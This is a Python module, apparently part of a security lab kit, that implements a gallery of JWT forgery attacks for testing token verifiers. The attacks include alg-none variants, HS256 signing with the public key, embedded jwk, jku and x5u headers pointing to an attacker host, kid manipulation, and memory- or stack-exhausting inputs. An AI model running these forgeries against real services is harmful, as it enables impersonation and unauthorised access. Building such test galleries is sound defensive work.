"""How tokens are forged: every attack of the gallery as a function from a good token to a bad one.

The forger has what anybody has: a token of their own, the published keys, and a key pair they made
themselves. They do not have the issuer's private key.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import RSAAlgorithm
from jwt.utils import base64url_encode

from labkit.identity.jwt_parts import LONGEST, take_apart

Header = dict[str, Any]
Claims = dict[str, Any]
TEN_YEARS = 10 * 365 * 24 * 3600
_ALGORITHM = RSAAlgorithm(RSAAlgorithm.SHA256)


@dataclass(frozen=True)
class Forger:
    """A good token, the published key set, and the forger's own key pair. `victim` is the object id that
    the forger would like to be."""

    token: str = field(repr=False)
    jwks: Mapping[str, Any]
    key: RSAPrivateKey = field(repr=False)
    victim: str

    @property
    def header(self) -> Header:
        """A copy of the good token's header."""
        return dict(take_apart(self.token).header)

    @property
    def claims(self) -> Claims:
        """A copy of the good token's claims."""
        return dict(take_apart(self.token).claims)

    @property
    def signature(self) -> str:
        """The good token's signature, as it stands in it."""
        return self.token.rpartition(".")[2]

    @property
    def wishes(self) -> Claims:
        """The claims that the forger would like to have: the victim's object id, for ten years."""
        return self.claims | {"oid": self.victim, "exp": self.claims["exp"] + TEN_YEARS}

    def own_jwk(self) -> dict[str, Any]:
        """The public half of the forger's key."""
        return {**RSAAlgorithm.to_jwk(self.key.public_key(), as_dict=True), "kid": "forged"}

    def signed(self, header: Header, claims: Claims) -> str:
        """A token with these parts, signed with the forger's own key."""
        text = _unsigned(header, claims)
        return f"{text}.{_part(_ALGORITHM.sign(text.encode(), self.key))}"


@dataclass(frozen=True)
class Attack:
    """One way to forge. `hope` is what the forger counts on."""

    name: str
    hope: str
    forge: Callable[[Forger], str]


def _part(raw: bytes) -> str:
    return base64url_encode(raw).decode()


def _json(value: object) -> str:
    return _part(json.dumps(value, separators=(",", ":")).encode())


def _unsigned(header: Header, claims: Claims) -> str:
    return f"{_json(header)}.{_json(claims)}"


def _alg_none(spelling: str) -> Callable[[Forger], str]:
    def forge(by: Forger) -> str:
        text = _unsigned(by.header | {"alg": spelling}, by.wishes)
        return f"{text}."

    return forge


def _hmac_with_public_key(by: Forger) -> str:
    key = RSAAlgorithm.from_jwk(dict(by.jwks["keys"][0]))
    assert not isinstance(key, RSAPrivateKey)
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    text = _unsigned(by.header | {"alg": "HS256"}, by.wishes)
    return f"{text}.{_part(hmac.digest(pem, text.encode(), hashlib.sha256))}"


def _deep(by: Forger) -> str:
    depth = LONGEST // 3
    return f"{_json(by.header)}.{_part(b'[' * depth + b']' * depth)}.{by.signature}"


def _twice(by: Forger) -> str:
    claims = json.dumps(by.claims, separators=(",", ":"))[:-1] + f',"oid":"{by.victim}"}}'
    return f"{_json(by.header)}.{_part(claims.encode())}.{by.signature}"


def _not_utf8(by: Forger) -> str:
    claims = b'{"oid":"\xff\xfe"}'
    return f"{_json(by.header)}.{_part(claims)}.{by.signature}"


def _flip_last_bit(by: Forger) -> str:
    # The last character carries bits that no byte uses: a lenient decoder reads the same signature.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return by.token[:-1] + alphabet[alphabet.index(by.token[-1]) ^ 1]


def _header(**extra: Any) -> Callable[[Forger], str]:
    return lambda by: by.signed(by.header | extra, by.wishes)


_ALL = (
    Attack("alg none", "a verifier that believes the header asks for no signature", _alg_none("none")),
    Attack("alg NoNe", "one that looks for the word in lower case only", _alg_none("NoNe")),
    Attack(
        "HS256 with the public key",
        "one that takes the published key for an HMAC secret",
        _hmac_with_public_key,
    ),
    Attack("alg RS512", "one that lets the token choose among algorithms", _header(alg="RS512")),
    Attack(
        "embedded jwk",
        "one that takes the key from the token",
        lambda by: by.signed(by.header | {"jwk": by.own_jwk()}, by.wishes),
    ),
    Attack(
        "jku",
        "one that fetches the key from where the token says",
        _header(jku="https://keys.attacker.example/jwks"),
    ),
    Attack(
        "x5u",
        "one that fetches a certificate from where the token says",
        _header(x5u="https://keys.attacker.example/cert"),
    ),
    Attack("crit", "one that skips an extension it does not know", _header(crit=["b64"], b64=False)),
    Attack("unknown kid", "one that falls back to some other key", _header(kid="forged")),
    Attack("no kid", "one that tries all keys, or none", lambda by: by.signed({"alg": "RS256"}, by.wishes)),
    Attack("kid is a list", "one that trips over the type", _header(kid=["forged"])),
    Attack(
        "own key, real kid",
        "one that looks at the kid and not at the signature",
        lambda by: by.signed(by.header, by.wishes),
    ),
    Attack(
        "changed object id",
        "one that decodes and does not verify",
        lambda by: f"{_unsigned(by.header, by.claims | {'oid': by.victim})}.{by.signature}",
    ),
    Attack(
        "stretched lifetime",
        "the same, for ten more years",
        lambda by: f"{_unsigned(by.header, by.claims | {'exp': by.wishes['exp']})}.{by.signature}",
    ),
    Attack("oid stands twice", "two parsers that disagree on which one counts", _twice),
    Attack("last bit flipped", "one that decodes leniently, and a cache that compares texts", _flip_last_bit),
    Attack(
        "two parts",
        "one that takes a missing signature for a good one",
        lambda by: by.token.rpartition(".")[0],
    ),
    Attack("four parts", "one that reads the first three", lambda by: by.token + "." + by.signature),
    Attack("empty", "one that takes nothing for nothing wrong", lambda by: ""),
    Attack("huge", "one that runs out of memory", lambda by: by.token + "A" * LONGEST),
    Attack("deep JSON", "one that runs out of stack", _deep),
    Attack(
        "not UTF-8",
        "one that trips over the bytes",
        _not_utf8,
    ),
)

ATTACKS = {attack.name: attack for attack in _ALL}
